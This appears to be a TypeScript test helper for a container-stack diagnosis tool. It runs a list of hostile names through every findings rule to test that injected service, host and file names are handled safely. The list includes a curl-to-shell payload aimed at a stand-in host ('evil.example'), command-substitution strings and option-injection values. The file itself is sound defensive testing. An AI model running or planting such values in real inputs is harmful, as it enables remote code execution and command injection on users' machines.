import type { ContainerDnsFact, PortFact, UrlFact } from '../../../src/main/core/checks/check-facts.ts';
import { configFindings, noStackFindings } from '../../../src/main/core/findings/config.rules.ts';
import { containerFindings } from '../../../src/main/core/findings/container.rules.ts';
import { containerDnsFindings, hostDnsFindings } from '../../../src/main/core/findings/dns.rules.ts';
import { engineFindings } from '../../../src/main/core/findings/engine.rules.ts';
import { healthFindings } from '../../../src/main/core/findings/health.rules.ts';
import { orchestratorFindings } from '../../../src/main/core/findings/orchestrator.rules.ts';
import { portClosedFindings, portNotPublishedFindings } from '../../../src/main/core/findings/port.rules.ts';
import type { DependencyTarget, Finding, OrchestratorTarget, StackService } from '../../../src/shared/model/index.ts';
import { asConfigured, container, failed, hostRuntime, probe, service } from '../../unit/core/findings/builders.ts';

/**
 * Names a hostile compose file, label or environment can carry. Each is used, one at a time, in every
 * place a rule takes a name from: service, project, container, network, host, URL, file.
 */
export const HOSTILE_NAMES = [
  'db;curl${IFS}evil.example|sh',
  'x&&id&&y',
  "it's",
  'a"b',
  '$(touch pwned)',
  '`id`',
  'x\nid',
  'two words',
  '-rm',
  '--help',
  'a|sh',
  'x>pwned',
] as const;

function target(url: string, host: string, port = 80): DependencyTarget {
  return { url, host, port, source: 'env:API_URL' };
}

/**
 * Every finding the rules give for `name` in each role, through the real rule functions: what a diagnosis
 * of a stack holding that name would show. With a normal name this is the positive control.
 */
export function findingsForName(name: string): Finding[] {
  const exited = container({ name, state: 'exited', exitCode: 1, status: 'Exited (1)' });
  const published = { containerPort: 8080, protocol: 'tcp', hostIp: '0.0.0.0', hostPort: 18080 };
  const running = container({ name, ports: [published], networks: [{ name: 'shop_default', aliases: [], ipAddress: '' }] });
  const url = `http://${name}:8080/health`;
  const asService = service({ name, project: 'ws2' });
  const inProject = service({ name: 'db', project: name });
  const withContainer = (over: Partial<StackService>) => service({ name: 'api', ...over });
  const api = withContainer({ container: running, healthUrl: 'http://127.0.0.1:18080/health' });
  const consumer = service({ name: 'dev', container: running, targets: [target(`http://${name}:8006`, name, 8006)] });
  const dnsCheck = (over: Partial<ContainerDnsFact>): ContainerDnsFact => ({
    service: consumer,
    container: running,
    target: target('http://orchestrator-service:8006', 'orchestrator-service', 8006),
    probe: failed('dns-container', 'orchestrator-service', 'ENOTFOUND'),
    reachability: { resolves: false, answers: null, basis: 'topology+lookup', note: 'no shared network' },
    topology: { resolves: false, reachableOn: ['shop_backend'], note: 'no shared network' },
    ...over,
  });
  const closed: PortFact = { service: api, binding: published, probe: failed('tcp', '127.0.0.1:18080', 'ECONNREFUSED') };
  const health: UrlFact[] = [
    { service: api, url, probe: failed('http', url, 'ECONNREFUSED') },
    { service: api, url, probe: probe({ kind: 'http', target: url, ok: true, detail: { status: 200, healthStatus: 'degraded' } }) },
  ];
  const provider = service({ name, container: container({ name, ports: [{ containerPort: 8006, protocol: 'tcp' }] }) });
  const web = service({ name: 'web', container: container({ name: 'shop-web-1' }), targets: [target(`http://${name}:8006`, name, 8006)] });
  const unresolvable: OrchestratorTarget = {
    ...asConfigured(`http://${name}:8006`),
    resolvedUrl: null,
    decision: 'unresolvable',
    reason: 'Neither answered.',
    attempts: [],
  };
  const fallback: OrchestratorTarget = { ...asConfigured(), resolvedUrl: url, decision: 'localhost-fallback', reason: 'alias' };
  const stoppedProvider = service({ name, container: exited, targets: [] });
  const notCreatedProvider = service({ name });
  return [
    ...containerFindings([asService, inProject, service({ name, role: 'devcontainer', project: name })]),
    ...containerFindings([withContainer({ container: exited, dependsOn: [] })]),
    ...containerFindings([withContainer({ container: { ...running, state: 'restarting', restartCount: 3 } })]),
    ...containerFindings([withContainer({ container: { ...running, health: 'unhealthy' } })]),
    ...containerDnsFindings([dnsCheck({})], [consumer]),
    ...containerDnsFindings([dnsCheck({ topology: { resolves: false, reachableOn: [name], note: 'x' } })], [consumer]),
    ...hostDnsFindings({ services: [web], hostDns: new Map([[name, failed('dns-host', name, 'ENOTFOUND')]]), aliases: [] }),
    ...portClosedFindings([closed]),
    ...portNotPublishedFindings({ services: [provider, web], orchestratorHost: name }),
    ...healthFindings(health, []),
    ...orchestratorFindings({ orchestrator: unresolvable, services: [stoppedProvider, web], runtime: hostRuntime }),
    ...orchestratorFindings({ orchestrator: unresolvable, services: [notCreatedProvider, web], runtime: hostRuntime }),
    ...orchestratorFindings({ orchestrator: unresolvable, services: [provider, web], runtime: hostRuntime }),
    ...orchestratorFindings({ orchestrator: fallback, services: [web], runtime: hostRuntime }),
    ...noStackFindings({
      stack: { workspace: '/ws', projects: [], services: [], aliases: [] },
      otherProjects: [{ name, containers: 1 }],
      engineOk: true,
    }),
    ...engineFindings({ ok: false, endpoint: name, probe: failed('engine', name, 'ENGINE_UNREACHABLE') }),
    ...configFindings([{ file: name, line: 1, column: 1, field: 'probe', message: 'bad' }]),
  ];
}
